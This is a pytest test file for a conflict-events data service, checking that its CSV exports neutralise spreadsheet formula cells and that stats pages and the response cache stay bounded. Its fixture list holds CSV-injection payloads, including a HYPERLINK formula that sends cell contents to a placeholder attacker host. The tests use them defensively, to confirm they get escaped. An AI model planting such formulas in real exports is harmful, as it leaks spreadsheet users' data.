"""CSV exports that a spreadsheet cannot run (finding 6) and reads bounded in size (finding 7)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from ruydad.csvsafe import neutralise_table
from ruydad.store import Store
from ruydad.web import create_app
from tests.web.test_total_reads import _store

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]


def _events(notes: list[str]) -> list[dict[str, object]]:
    return [{"event_date": date(2022, 5, 1 + i), "event_type": "Battles", "sub_event_type": "Armed clash",
             "actor1": note, "actor2": "Taliban", "assoc_actor_1": None, "admin1": "Panjshir", "admin2": None,
             "country": "Afghanistan", "dataset": "acled", "fatalities": -0 if i else 3, "latitude": 35.3,
             "longitude": 69.5, "notes": note} for i, note in enumerate(notes)]


@pytest.fixture
def formula_store(tmp_path: Path) -> Path:
    _store(tmp_path / "formulas.duckdb", _events([*FORMULAS, "plain text", "a = b"]))
    return tmp_path / "formulas.duckdb"


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text, newline=""))]


def test_http_csv_export_neutralises_formula_cells_unless_asked_to_keep_them(formula_store: Path) -> None:
    with Store.open(formula_store) as store:
        client = TestClient(create_app(store))
        safe = client.get("/api/events", params={"format": "csv", "limit": 100})
        raw = client.get("/api/events", params={"format": "csv", "limit": 100, "formulas": "keep"})
    notes = _cells(safe.text, "notes")
    assert sorted(notes) == sorted(["'" + f for f in FORMULAS] + ["plain text", "a = b"])
    assert sorted(_cells(raw.text, "notes")) == sorted([*FORMULAS, "plain text", "a = b"])
    assert set(_cells(safe.text, "fatalities")) == {"0", "3"}  # numbers are left as numbers


def test_cli_csv_export_neutralises_formula_cells_and_the_env_turns_it_off(formula_store: Path,
                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    from ruydad.cli import app

    safe = CliRunner().invoke(app, ["--db", str(formula_store), "events", "--format", "csv", "--limit", "0"])
    assert safe.exit_code == 0, safe.output
    assert sorted(_cells(safe.stdout, "actor1")) == sorted(["'" + f for f in FORMULAS] + ["plain text", "a = b"])
    monkeypatch.setenv("RUYDAD_CSV_FORMULAS", "keep")
    raw = CliRunner().invoke(app, ["--db", str(formula_store), "events", "--format", "csv", "--limit", "0"])
    assert sorted(_cells(raw.stdout, "actor1")) == sorted([*FORMULAS, "plain text", "a = b"])


def test_neutralise_table_changes_only_text_cells_that_start_a_formula() -> None:
    table = pa.table({"text": ["=1", None, "ok", "-x"], "number": [-1, 2, None, 4]})
    out = neutralise_table(table)
    assert out.column("text").to_pylist() == ["'=1", None, "ok", "'-x"]
    assert out.column("number").to_pylist() == [-1, 2, None, 4]


def test_grouped_figures_come_a_page_at_a_time(formula_store: Path) -> None:
    with Store.open(formula_store) as store:
        client = TestClient(create_app(store))
        first = client.get("/api/stats", params={"by": "actor,day", "rows_limit": 3}).json()
        second = client.get("/api/stats", params={"by": "actor,day", "rows_limit": 3, "rows_offset": 3}).json()
        too_many = client.get("/api/stats", params={"by": "actor", "rows_limit": 100_000})
    assert first["total_rows"] == second["total_rows"] >= 9
    assert len(first["rows"]) == 3 and len(second["rows"]) == 3
    assert first["rows"] != second["rows"]
    assert too_many.status_code == 422


def test_the_cache_ignores_unknown_parameters_and_is_bounded_by_bytes(formula_store: Path) -> None:
    with Store.open(formula_store) as store:
        app = create_app(store)
        client = TestClient(app)
        cache = app.state.ruydad.cache
        client.get("/api/summary")
        for n in range(50):
            answer = client.get("/api/summary", params={f"junk{n}": "x" * 100})
            assert answer.headers["x-cache"] == "hit"
        assert len(cache._data) == 1
        cache.max_bytes = 3000
        for n in range(1, 30):
            client.get("/api/events", params={"limit": n})
        assert cache.bytes <= 3000 and len(cache._data) < 29
